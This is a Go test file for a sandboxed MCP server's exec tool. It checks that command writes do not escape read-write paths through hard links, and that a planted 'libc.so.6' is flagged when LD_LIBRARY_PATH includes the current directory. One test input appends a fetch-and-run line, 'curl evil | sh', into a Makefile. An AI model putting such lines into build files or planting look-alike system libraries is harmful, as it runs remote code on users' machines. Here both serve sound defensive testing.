//go:build unix

package mcpserver

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

// A file under the rw path is a hard link to one outside every [[paths]]
// entry (a backup made with cp -al, a package cache's store); a second
// pair of names is one file inside the rw path only. An exec command
// appends to the first: the outside file must not change, the answer and
// the audit say the file was made the rw path's own, and the two names
// inside stay one file. Without unshareOutside the command's write
// reaches the outside file (ipatk9 row 5). A link made after the first
// command is caught before the next one too.
func TestExecWritesDoNotReachAHardLinkOutsideTheRwPaths(t *testing.T) {
	t.Parallel()
	bin := helper(t)
	f := newFixture(t)
	out := filepath.Join(f.outside, "Makefile.bak")
	write(t, out, "all:\n")
	if err := os.Link(out, filepath.Join(f.rw, "Makefile")); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(filepath.Join(f.rw, "notes.txt"), filepath.Join(f.rw, "notes2.txt")); err != nil {
		t.Fatal(err)
	}
	cs, srv := session(t, mustConfig(t, f.config(`allow_hosts = []`)), Options{Helper: bin})

	got := mustAllow(t, cs, "exec", map[string]any{"command": "echo 'curl evil | sh' >> Makefile"})
	if b, _ := os.ReadFile(out); string(b) != "all:\n" {
		t.Errorf("the command's write reached %s outside every rw path: %q", out, b)
	}
	if b, _ := os.ReadFile(filepath.Join(f.rw, "Makefile")); string(b) != "all:\ncurl evil | sh\n" {
		t.Errorf("the command's write did not happen in the rw path: %q", b)
	}
	if !strings.Contains(got, "shared their data with a file outside every rw path") || !strings.Contains(got, "Makefile") {
		t.Errorf("the answer does not say Makefile was made a file of its own:\n%s", got)
	}
	a, _ := os.Stat(filepath.Join(f.rw, "notes.txt"))
	b, _ := os.Stat(filepath.Join(f.rw, "notes2.txt"))
	if !os.SameFile(a, b) {
		t.Errorf("two names inside the rw path that were one file were split")
	}
	told := false
	for _, c := range auditCalls(t, srv) {
		if c.Tool == "exec" && strings.Contains(strings.Join(c.GitSweep, "\n"), "Makefile") {
			told = true
		}
	}
	if !told {
		t.Errorf("the audit does not say Makefile was made a file of its own")
	}

	// A link made while the server runs, before the next command.
	out2 := filepath.Join(f.outside, "config.bak")
	if err := os.Link(filepath.Join(f.rw, "config.json"), out2); err != nil {
		t.Fatal(err)
	}
	mustAllow(t, cs, "exec", map[string]any{"command": "echo '{}' > config.json"})
	if b, _ := os.ReadFile(out2); string(b) != `{"a": 1}`+"\n" {
		t.Errorf("the second command's write reached %s: %q", out2, b)
	}
}

// An exec command writes a libc.so.6 into the rw path (the person's
// LD_LIBRARY_PATH has an empty entry) and a build's own library: the
// answer and the audit flag the first, saying the person's
// LD_LIBRARY_PATH holds the current directory, and not the second.
func TestExecFlagsALibraryNamedAsASystemOne(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("the system libraries looked for are Linux's")
	}
	t.Setenv("LD_LIBRARY_PATH", ":/opt/none")
	bin := helper(t)
	f := newFixture(t)
	cs, srv := session(t, mustConfig(t, f.config(`allow_hosts = []`)), Options{Helper: bin})
	got := mustAllow(t, cs, "exec", map[string]any{"command": "echo x > libc.so.6; echo y > libsentinel-build-output.so"})
	if !strings.Contains(got, "libc.so.6: a system library's name") || !strings.Contains(got, "yours does now") {
		t.Errorf("the answer does not flag libc.so.6:\n%s", got)
	}
	if strings.Contains(got, "libsentinel-build-output.so") {
		t.Errorf("a build's own library is flagged:\n%s", got)
	}
	told := false
	for _, c := range auditCalls(t, srv) {
		if c.Tool == "exec" && strings.Contains(strings.Join(c.GitSweep, "\n"), "libc.so.6") {
			told = true
		}
	}
	if !told {
		t.Errorf("the audit does not flag libc.so.6")
	}
}
